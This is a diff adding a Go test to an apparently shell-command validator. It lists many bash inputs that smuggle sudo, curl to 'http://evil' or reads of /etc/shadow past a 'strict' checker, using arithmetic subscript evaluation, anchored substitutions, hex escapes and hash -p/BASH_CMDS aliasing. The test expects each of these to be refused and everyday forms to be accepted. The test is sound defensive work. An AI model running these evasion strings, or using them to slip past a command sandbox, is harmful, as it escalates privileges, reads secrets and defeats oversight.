@@ -256,3 +256,43 @@ func TestAttackWordsBashEvaluates(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackValuesEvaluatedElsewhere: an outside attack made bash run
+// sudo past strict through forms the checker read otherwise: a value
+// evaluated as arithmetic in a substring, a subscript, a C-style loop or
+// an -i assignment, or reaching $((…)) through positional parameters,
+// a loop, a function's arguments or printf -v; an anchored ${x/%p/r}
+// the shell library matches anywhere; bash's $'\x{HH}'; hash -p and
+// BASH_CMDS behind builtin, command, printf -v or read; and declare -l
+// with an array. Each is refused; the everyday forms beside them are
+// not.
+func TestAttackValuesEvaluatedElsewhere(t *testing.T) {
+	const y = "y='a[$(sudo id)]'; "
+	for _, c := range []string{
+		y + "echo ${x:y}", y + "echo ${x:0:y}", y + "echo ${a[@]:y}", y + "echo ${a[y]}", y + "echo ${!a[y]}",
+		y + "a[y]=1", y + "a=([y]=1)", y + "x+=([y]=2)",
+		y + "for ((i=y;0;)); do :; done", y + "declare -i z; z=y", y + "z=y; echo $((z))",
+		"set -- 'a[$(sudo id)]'; echo $(($1))", "f() { echo $(($1)); }; f 'a[$(sudo id)]'",
+		"for y in 'a[$(sudo id)]'; do echo $((y)); done", "printf -v y 'a[$(sudo id)]'; echo $((y))",
+		"y=${z:-'a[$(sudo id)]'}; echo $((y))", "f() { echo $((y)); }; y='a[$(sudo id)]' f",
+		`set -- a[\$\(sudo\ id\)]; echo $(($1))`, "set -- 'a[$''(sudo id)]'; echo $(($1))",
+		"x=sudox; ${x/%x} id", "x=curlX; ${x/%X/} http://evil", "x=/etc/shadowX; cat ${x/%X/}", "x=Xsudo; ${x/#X} id",
+		`$'\x{73}udo' id`, `sud$'\x{6f}' id`, `cat $'/etc/\x{73}hadow'`,
+		"builtin hash -p /usr/bin/sudo ls; ls id", "command hash -p /usr/bin/sudo ls; ls id",
+		"printf -v 'BASH_CMDS[ls]' /usr/bin/sudo; ls id", "read 'BASH_CMDS[ls]' <<< /usr/bin/sudo; ls id",
+		"declare -l x; x=(SUDO); $x id",
+	} {
+		if err := Validate(c, "strict"); err == nil {
+			t.Errorf("%q accepted", c)
+		}
+	}
+	for _, c := range []string{
+		"for ((i=0;i<10;i++)); do echo $i; done", "x=hello; echo ${x:1:2}", "a=(1 2 3); echo ${a[1]}",
+		"i=2; a[i]=5; echo ${a[@]}", "n=5; declare -i m; m=n+1; echo $m", "echo '[$(date)]'",
+		"grep -E '[0-9]+' f | head -n $((2*3))", "x=lsx; ${x/%x} -l", `echo $'a\x{41}b'`,
+	} {
+		if err := Validate(c, "strict"); err != nil {
+			t.Errorf("%q refused: %v", c, err)
+		}
+	}
+}
